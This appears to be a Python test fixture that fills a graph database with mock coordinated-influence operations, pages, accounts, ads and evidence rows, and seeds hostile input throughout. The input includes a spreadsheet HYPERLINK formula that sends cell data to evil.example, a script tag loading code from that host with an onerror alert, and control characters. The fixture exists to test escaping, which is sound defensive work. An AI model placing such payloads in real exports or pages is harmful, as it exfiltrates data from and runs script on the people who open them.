# ruff: noqa: E501 - tables and sentences read better whole
"""A small graph of operations in the shape that ranking writes, with hostile values in every place from outside."""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path
from typing import Any

import polars as pl

from cypher.library import parse
from cypher.session import Graph

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"prize")'
MARKUP = '<script src="http://evil.example/x.js"></script><img src=x onerror=alert(1)>"\'><style>*{}</style>'
CONTROL = "bell\x07 and null\x00 and \x1b[31mred"
LONG = "ä" * 39_999 + "Z"
LONG_ID = "90071992547409931234"
NAMES = [
    "Voice of Peace",
    FORMULA,
    "+1 234",
    "-dash",
    "@handle",
    "\ttab",
    MARKUP,
    CONTROL,
    'a,b"c\r\nd',
    "صوت السلام",
    None,
]

_TIME = pl.Datetime("us", "UTC")


def at(year: int, month: int = 1, day: int = 1, second: int = 0, micro: int = 0) -> dt.datetime:
    return dt.datetime(year, month, day, 8, 30, second, micro, tzinfo=dt.UTC)


def write(graph: Graph, statement: str, rows: list[dict[str, Any]]) -> None:
    text = f"// Made\n// :param rows => []\nUNWIND $rows AS row\n{statement}"
    graph.write(parse("made", text), rows=rows)


def operation(number: int, members: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
    def count(*kinds: str, instagram: bool = False) -> int:
        return sum(m["kind"] in kinds and (m["platform"] == "instagram") == instagram for m in members)

    return {
        "id": f"OP-{number:06d}",
        "rank": number,
        "score": 0.0,
        "status": "new",
        "assets": len(members),
        "pages": count("page"),
        "accounts": count("account"),
        "groups": count("group"),
        "instagram_accounts": count("account", instagram=True),
        "candidate": False,
        "completeness": 0.72,
        "run": "RUN-1",
        "ads": 0,
        "layers": ["co_url", "shared_admin"],
        "countries": ["PK", "IN"],
        "ad_spend": [],
        **more,
    }


def member(number: int, kind: str, platform: str = "facebook", **more: Any) -> dict[str, Any]:
    asset_id = more.pop("id", f"{1000 + number}")
    return {
        "key": f"{platform}:{kind}:{asset_id}",
        "platform": platform,
        "kind": kind,
        "id": asset_id,
        "name": NAMES[number % len(NAMES)] or f"Asset {number}",
        "role": "front" if kind == "page" else "operator" if number % 3 == 0 else "amplifier",
        "confidence": round(0.5 + (number * 37 % 50) / 100, 2),
        "why": f"coordinated with {number} members (co_url)",
        "created_at": at(2013 + number % 5, 1 + number % 12, 1 + number % 27) if number % 4 else None,
        "followers": 1000 * number if number % 3 else None,
        "url": f"https://www.facebook.com/asset.{number}",
        **more,
    }


def make(graph: Graph, layers_dir: Path, *, bulk: int = 0, big: int = 0) -> None:
    """Write two operations and a candidate, `bulk` small operations more, and one of `big` members if not 0."""
    first = [member(n, "page") for n in range(1, 13)] + [member(n, "account") for n in range(13, 40)]
    first += [member(n, "group", followers=None) for n in range(40, 43)]
    first += [member(n, "account", "instagram") for n in range(43, 50)]
    first += [member(50, "account", id=LONG_ID), member(51, "account", "x", name=None)]
    second = [member(n, "page", url=None, followers=None) for n in range(101, 104)] + [
        member(104, "account", "telegram", id="-1001234567")
    ]
    third = [member(n, "account") for n in range(201, 205)]
    operations = [
        (
            operation(
                1,
                first,
                score=21.37,
                ads=4,
                ad_spend=["PKR 51000-80000", "USD 400-620"],
                first_ad=at(2015, 5),
                last_ad=at(2018, 12),
                first_seen=at(2013),
                last_seen=at(2019, 4, 1, 5, 250_000),
                page_followers=2_800_000,
                group_members=4700,
                instagram_followers=1050,
                followers_upper_bound=2_801_050,
                group_members_upper_bound=4700,
                why="57 of 60 accounts were made in three days; Pages of one topic share admins",
            ),
            first,
        ),
        (operation(2, second, score=-1.0 + 9.305, status="grown", why=MARKUP, layers=["co_url"]), second),
        (operation(3, third, score=0.5, candidate=True, why="weak"), third),
    ]
    for number in range(bulk):
        some = [member(1000 + 10 * number + n, "page" if n % 2 else "account") for n in range(8)]
        operations.append((operation(10 + number, some, score=5.0, why="a small one"), some))
    if big:
        many = [member(100_000 + n, "page" if n % 5 == 0 else "account") for n in range(big)]
        operations.append((operation(5, many, score=33.0, why="a very large one", ads=0), many))
    write(
        graph, "MERGE (r:Run {id: row.id}) SET r = row", [RUN, {**RUN, "id": "RUN-0", "started_at": at(2025)}]
    )
    write(
        graph,
        "MERGE (o:Operation {id: row.id}) SET o = row WITH o MATCH (r:Run {id: 'RUN-1'}) MERGE (r)-[:PRODUCED]->(o)",
        [properties for properties, _ in operations],
    )
    links = [{"operation": o["id"], **m} for o, ms in operations for m in ms]
    for kind, label in (("page", "Page"), ("account", "Account"), ("group", "Group")):
        write(
            graph,
            f"MERGE (a:Asset {{key: row.key}}) SET a:{label}, a += row {{.platform, .kind, .id, .name, .followers,"
            " .created_at, .url} WITH a, row MATCH (o:Operation {id: row.operation})"
            " MERGE (a)-[p:PART_OF]->(o) SET p += row {.role, .confidence, .why}",
            [link for link in links if link["kind"] == kind],
        )
    signals = [
        {
            "operation": o["id"],
            "id": f"{o['id']}/{name}",
            "name": name,
            "value": value,
            "background": back,
            "bits": bits,
            "why": why,
        }
        for o, _ in operations
        for name, value, back, bits, why in _signals(o["score"])
    ]
    write(
        graph,
        "MERGE (s:Signal {id: row.id}) SET s += row {.name, .value, .background, .bits, .why}"
        " WITH s, row MATCH (o:Operation {id: row.operation}) MERGE (o)-[:SHOWS]->(s)",
        signals,
    )
    edges = [edge for o, members in operations for edge in _edges(members)]
    edges.append({**edges[0], "source": first[0]["key"], "target": second[0]["key"], "layer": "co_text"})
    write(
        graph,
        "MATCH (a:Asset {key: row.source}) MATCH (b:Asset {key: row.target})"
        " MERGE (a)-[c:COORDINATED {layer: row.layer}]->(b)"
        " SET c += row {.weight, .expected, .p_value, .q_value, .first_at, .last_at}",
        edges,
    )
    write(
        graph,
        "MERGE (ad:Ad {key: row.key}) SET ad += row WITH ad MATCH (p:Page {id: ad.page_id}) MERGE (p)-[:RAN]->(ad)",
        ADS,
    )
    write(
        graph,
        "MERGE (d:Decision {id: row.id}) SET d += row WITH d MATCH (o:Operation {id: 'OP-000002'}) MERGE (d)-[:DECIDED]->(o)",
        [
            {"id": "D1", "verdict": "watch", "at": at(2026, 1)},
            {"id": "D2", "verdict": "confirmed", "at": at(2026, 2), "by": "Ada", "note": MARKUP},
        ],
    )
    layers_dir.mkdir(parents=True, exist_ok=True)
    evidence(edges).write_parquet(layers_dir / "evidence.parquet")


RUN = {
    "id": "RUN-1",
    "started_at": at(2026, 3),
    "finished_at": at(2026, 3, 1, 40),
    "command": "cib run",
    "version": "0.1.0",
    "settings": '{"detect": {"seed": 7, "layers": ["co_url", "co_text"]}, "rank": {"alert_threshold": 3.5}}',
}
ADS = [
    {
        "key": f"facebook:ad:{n}",
        "platform": "facebook",
        "id": f"{n}",
        "page_id": "1001",
        "payer": [FORMULA, "Peace Media", None, "Peace Media"][n],
        "currency": "USD" if n < 2 else "PKR",
        "spend_lower": [100.0, 300.0, 51_000.0, None][n],
        "spend_upper": [199.0, 421.0, 80_000.0, None][n],
        "impressions_lower": 1000 * n,
        "started_at": at(2015 + n, 5),
        "text": ["-50% today", MARKUP, LONG, CONTROL][n],
        "url": "https://peace.example.com/a?b=1",
        "countries": ["PK", "a|b"] if n else ["PK"],
        "targets": None if n else ["=1+1", "x"],
    }
    for n in range(4)
]


def _signals(score: float) -> list[tuple[str, float | None, float | None, float, str]]:
    return [
        ("foreign_admins", 0.83, 0.031, round(score - 4.005, 4), "10 of 12 Pages have admins elsewhere"),
        ("creation_burst", 0.4, 0.0004, 6.005, f"quotes {MARKUP}"),
        ("copied_pictures", None, None, 0.0, "not known"),
        ("search", 4.0, None, -2.0, "4 communities were looked at"),
    ]


def _edges(members: list[dict[str, Any]]) -> list[dict[str, Any]]:
    chance = random.Random(len(members))
    keys = sorted(m["key"] for m in members)
    pairs = {tuple(sorted(chance.sample(keys, 2))) for _ in range(2 * len(keys))}
    return [
        {
            "source": source,
            "target": target,
            "layer": layer,
            "weight": 2 + number % 9,
            "expected": 0.0123,
            "p_value": 1.5e-12,
            "q_value": 3.25e-9,
            "first_at": None if layer == "shared_admin" else at(2016, 1 + number % 12),
            "last_at": None if layer == "shared_admin" else at(2018, 1 + number % 12),
        }
        for number, (source, target) in enumerate(sorted(pairs))
        for layer in (["co_url", "shared_admin"] if number % 4 == 0 else ["co_url"])
    ]


def evidence(edges: list[dict[str, Any]]) -> pl.DataFrame:
    rows = [
        {
            "layer": edge["layer"],
            "source": edge["source"],
            "target": edge["target"],
            "object_kind": "url",
            "object": ["https://news.example.com/story?id=1", FORMULA, MARKUP, CONTROL][number % 4],
            "source_at": edge["first_at"],
            "target_at": edge["last_at"],
            "source_ref": f"facebook:post:{number}",
            "target_ref": None,
        }
        for number, edge in enumerate(edges)
    ]
    times = {"source_at": _TIME, "target_at": _TIME, "target_ref": pl.String()}
    return pl.DataFrame(rows, schema_overrides=times)
